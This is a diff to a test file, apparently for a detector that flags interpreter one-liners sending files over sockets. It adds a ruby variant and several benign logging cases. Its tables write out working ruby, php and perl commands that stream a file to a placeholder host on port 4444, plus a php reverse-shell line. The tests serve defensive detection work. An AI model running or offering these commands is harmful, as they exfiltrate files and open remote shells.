@@ -26,6 +26,7 @@ const SENDS: Array<[string[], string]> = [
   [['ruby', '-rsocket', '-e', `TCPSocket.new("${H}",4444).write(File.read("${M}"))`], 'send ruby'],
   [['ruby', '-rsocket', '-e', `s=TCPSocket.open("${H}",4444);IO.copy_stream("${M}",s)`], 'send ruby'],
   [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);s << STDIN.read`], 'send ruby'],
+  [['ruby', '-rsocket', '-e', `s=TCPSocket.new("${H}",4444);File.open("${M}","rb"){|f| s.write(f.read(1<<20)) until f.eof?}`], 'send ruby'],
   [['php', '-r', `$s=fsockopen("${H}",4444);fwrite($s,file_get_contents("${M}"));`], 'send php'],
   [['php', '-r', `stream_copy_to_stream(fopen("${M}","rb"),stream_socket_client("tcp://${H}:4444"));`], 'send php'],
   [['php', '-r', `fputs(fsockopen("${H}",4444),file_get_contents("${M}"));`], 'send php'],
@@ -58,6 +59,11 @@ describe('interpreter code sending a file over a socket', () => {
       ['perl', '-e', `open(F,"${M}");print $_ while <F>`],
       ['perl', '-MIO::Socket', '-e', `$s=IO::Socket::INET->new("h:1");open(F,"/etc/hosts");print $s;`],
       ['ruby', '-e', `puts File.read("${M}").size`],
+      // Files opened to be written (a log beside a health check) are no source.
+      ['perl', '-MIO::Socket', '-e', '$s=IO::Socket::INET->new("smtp:25");open(LOG,">>/tmp/l");print $s "HELO x\r\n";print LOG scalar <$s>'],
+      ['php', '-r', '$s=fsockopen("db",5432);$l=fopen("/tmp/l","a");fwrite($s,"\n");fwrite($l,fgets($s));'],
+      ['ruby', '-rsocket', '-e', 's=TCPSocket.new("redis",6379);File.open("/tmp/l","w"){|f| s.write("PING\r\n");f.puts s.gets}'],
+      ['lua', '-e', 'local socket=require("socket");local s=socket.connect("h",80);local f=io.open("/tmp/l","w");s:send("GET / HTTP/1.0\r\n\r\n");f:write(s:receive())'],
     ]) expect(io(argv), argv.join(' ')).toEqual([]);
     // A reverse shell is a shell on the socket (MLS-RAY-015's), not a send.
     expect(io(['php', '-r', `$sock=fsockopen("${H}",1234);exec("/bin/sh -i <&3 >&3 2>&3");`])).toEqual(['shell sh']);
